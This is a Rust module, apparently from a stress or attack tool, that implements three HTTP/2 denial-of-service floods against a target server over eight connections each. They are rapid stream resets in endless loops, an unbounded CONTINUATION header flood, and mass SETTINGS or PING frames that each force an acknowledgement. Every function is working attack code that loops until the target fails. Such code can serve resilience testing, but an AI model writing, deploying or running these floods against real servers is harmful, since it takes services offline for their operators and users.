//! Floods of HTTP/2: frames that cost their sender little.

use std::sync::Arc;

use futures_util::future::BoxFuture;

use super::super::http2::{CONTINUATION, HEADERS, Http2, PING, SETTINGS, UNARY, fields, frame};
use super::super::target::Target;
use super::swarm;

const CONNECTIONS: usize = 8;

/// Calls that are taken back as soon as they are begun.
pub(in super::super) fn rapid_reset(target: Arc<Target>) -> BoxFuture<'static, ()> {
    Box::pin(swarm(target, CONNECTIONS, |target, _| async move {
        let mut connection = Http2::open(&target, 0xffff).await?;
        // Until the node has had enough.
        loop {
            connection.begin_and_reset(100).await?;
        }
    }))
}

/// A head that goes on and on.
pub(in super::super) fn continuations(target: Arc<Target>) -> BoxFuture<'static, ()> {
    Box::pin(swarm(target, CONNECTIONS, |target, _| async move {
        let mut connection = Http2::open(&target, 0xffff).await?;
        let number = connection.number();
        connection.send(&frame(HEADERS, 0, number, &fields(UNARY, false))).await?;
        // A name of one letter and a value of 100, never indexed.
        let field = [&[0, 1, b'x', 100][..], &[b'v'; 100]].concat();
        let more = frame(CONTINUATION, 0, number, &field.repeat(150));
        loop {
            connection.send(&more).await?;
        }
    }))
}

/// Settings and pings, of which each is to be acknowledged.
pub(in super::super) fn settings(target: Arc<Target>) -> BoxFuture<'static, ()> {
    Box::pin(swarm(target, CONNECTIONS, |target, attacker| async move {
        let mut connection = Http2::open(&target, 0xffff).await?;
        let one = if attacker.is_multiple_of(2) { frame(SETTINGS, 0, 0, &[]) } else { frame(PING, 0, 0, &[7; 8]) };
        let many = one.repeat(1_000);
        loop {
            connection.send(&many).await?;
        }
    }))
}
